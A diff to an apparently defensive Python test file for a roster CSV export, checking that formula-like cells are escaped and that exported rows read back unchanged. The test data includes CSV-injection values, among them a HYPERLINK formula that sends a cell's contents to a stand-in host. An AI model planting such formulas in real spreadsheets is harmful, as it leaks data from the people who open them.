@@ -186,3 +186,12 @@ async def test_what_looks_like_a_formula_is_text_and_harmless_where_it_is_writte
     assert entry.first_name == '=HYPERLINK("http://x.example?"&A1)'
     (cells,) = csv.reader(io.StringIO(write_rows([roster.row_of(entry, standing)]).decode("utf-8-sig")))
     assert cells[:5] == ["'=1", "'+1", "ana@heron.example", "'" + entry.first_name, "'@SUM(A1)"]
+
+
+async def test_what_was_handed_out_is_read_again_as_it_was(town: Town) -> None:
+    lines = read(HEADER + '=1,+1,ana@heron.example,"=1+1",@SUM(A1)\n-D,,+bo@heron.example,"O\'Neil, Jr.",Lund\n')
+    await take(town, town.admin, lines)
+    listed = await town.see(service.roster_of, await town.act(town.admin), town.places["heron"].id, limit=10)
+    table = write_rows([roster.EXPORTED, *(roster.row_of(entry, standing) for entry, standing in listed)])
+    assert roster.read_roster(table) == lines
+    assert counts(await take(town, town.admin, roster.read_roster(table))) == (0, 2, 0, 0, 0)
